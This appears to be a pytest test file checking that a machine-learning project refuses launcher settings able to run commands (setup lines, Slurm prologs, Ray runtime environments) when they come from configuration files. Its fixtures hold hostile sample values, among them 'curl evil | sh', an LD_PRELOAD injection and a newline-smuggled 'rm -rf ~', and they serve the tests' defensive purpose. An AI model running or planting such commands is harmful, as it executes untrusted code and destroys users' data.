"""Which launchers there are, and what a configuration file may not set of them."""

import importlib.util
from pathlib import Path
from typing import Any

import pytest
from rig import SMOKE, Lab

from cifar_lab import launcher_rules
from cifar_lab.errors import ConfigError

PLAIN = {"_target_": launcher_rules.SLURM, "submitit_folder": "${hydra.sweep.dir}/.submitit/%j", "timeout_min": 60, "setup": None}


@pytest.mark.parametrize(
    ("settings", "key"),
    [
        ({**PLAIN, "setup": ["curl evil | sh"]}, "setup"),
        ({**PLAIN, "additional_parameters": {"export": "LD_PRELOAD=x"}}, "additional_parameters"),
        ({**PLAIN, "submitit_folder": "/tmp/shared"}, "submitit_folder"),
        ({"ray": {"init": {"address": "ray://elsewhere:10001"}, "remote": {}}}, "ray.init.address"),
        ({"ray": {"init": {"address": None, "runtime_env": {"pip": ["evil"]}}, "remote": {}}}, "ray.init.runtime_env"),
        ({"ray": {"init": {}, "remote": {"runtime_env": {"env_vars": {"A": "b"}}}}}, "ray.remote.runtime_env"),
    ],
)
def test_what_can_run_commands_is_only_typed(settings: dict[str, Any], key: str) -> None:
    with pytest.raises(ConfigError, match=key):
        launcher_rules.refuse_settings_of_files(settings, {"seed": 0, "hydra.launcher.timeout_min": 5})
    value = settings
    for part in key.split("."):
        value = value[part]
    launcher_rules.refuse_settings_of_files(settings, {f"hydra.launcher.{key}": value})


def test_what_is_typed_does_not_vouch_for_what_a_file_put_beside_it() -> None:
    both = {**PLAIN, "additional_parameters": {"task-prolog": "/shared/evil.sh", "mail-type": "END"}}
    for typed in (
        {"hydra.launcher.additional_parameters.mail-type": "END"},
        {"hydra.launcher.additional_parameters": {"mail-type": "END"}},
    ):
        with pytest.raises(ConfigError, match=r"additional_parameters\.task-prolog: not allowed in a configuration file"):
            launcher_rules.refuse_settings_of_files(both, typed)
        launcher_rules.refuse_settings_of_files({**both, "additional_parameters": {"mail-type": "END"}}, typed)
    with pytest.raises(ConfigError, match="setup"):  # one line typed, another before it
        launcher_rules.refuse_settings_of_files(
            {**PLAIN, "setup": ["evil", "module load x"]}, {"hydra.launcher.setup": ["module load x"]}
        )


def test_what_a_persons_file_says_of_time_stays() -> None:
    defaults = launcher_rules.defaults
    assert defaults({"_target_": launcher_rules.SLURM, "max_num_timeout": 0}) == ["hydra.launcher.max_num_timeout=10"]
    assert defaults({"_target_": launcher_rules.SLURM, "max_num_timeout": 3}) == []
    assert defaults({"_target_": launcher_rules.LOCAL, "timeout_min": 60}) == ["hydra.launcher.timeout_min=10080"]
    assert defaults({"_target_": launcher_rules.LOCAL, "timeout_min": 240}) == []


@pytest.mark.skipif(importlib.util.find_spec("submitit") is None, reason="the extra slurm is not installed")
def test_submitits_own_times_are_those_that_are_replaced() -> None:
    config = importlib.import_module("hydra_plugins.hydra_submitit_launcher.config")
    assert config.LocalQueueConf().timeout_min == 60
    assert config.SlurmQueueConf().max_num_timeout == 0


def test_plain_numbers_may_come_from_a_file_and_values_are_one_line() -> None:
    ray = {"init": {"address": None, "num_cpus": 4}, "remote": {"num_gpus": 1}}
    launcher_rules.refuse_settings_of_files({"_target_": launcher_rules.RAY, "ray": ray}, {})
    launcher_rules.refuse_settings_of_files({**PLAIN, "timeout_min": 600, "partition": "gpu", "gpus_per_node": 1}, {})
    with pytest.raises(ConfigError, match="one line"):
        launcher_rules.refuse_settings_of_files({**PLAIN, "partition": "a\nrm -rf ~"}, {"hydra.launcher.partition": "x"})


@pytest.mark.skipif(importlib.util.find_spec("submitit") is None, reason="the extra slurm is not installed")
def test_a_file_of_settings_cannot_bring_commands(lab: Lab, tmp_path: Path) -> None:
    own = tmp_path / "own" / "hydra" / "launcher"
    own.mkdir(parents=True)
    (own / "evil.yaml").write_text("defaults: [submitit_slurm]\nsetup: [touch found]\n")
    (own / "fine.yaml").write_text("defaults: [submitit_slurm]\npartition: gpu\ntimeout_min: 7\n")
    said = lab("-m", *SMOKE, "hydra/launcher=evil", "seed=0,1", "--config-dir", "own")
    assert said.code == 2
    assert "hydra.launcher.setup: not allowed in a configuration file" in said.err
    said = lab(
        "-m", *SMOKE, "hydra/launcher=fine", "seed=0,1", "hydra.launcher.setup=[true]", "--config-dir", "own", "--cfg", "hydra"
    )
    assert said.code == 0, said.err
    assert "timeout_min: 7" in said.out
    assert "partition: gpu" in said.out


def test_foreign_launchers_are_refused_by_name(lab: Lab) -> None:
    said = lab("-m", *SMOKE, "seed=0,1", "hydra/launcher=ray_aws")
    assert said.code == 2, said.err
    assert not Path("outputs").exists()


@pytest.mark.skipif(importlib.util.find_spec("submitit") is not None, reason="the extra slurm is installed")
def test_a_launcher_that_is_not_installed_is_named_with_its_extra(lab: Lab) -> None:
    said = lab("-m", *SMOKE, "seed=0,1", "hydra/launcher=submitit_slurm")
    assert said.code == 2
    assert "hydra/launcher=submitit_slurm: not installed" in said.err
    assert "uv sync --extra slurm" in said.err
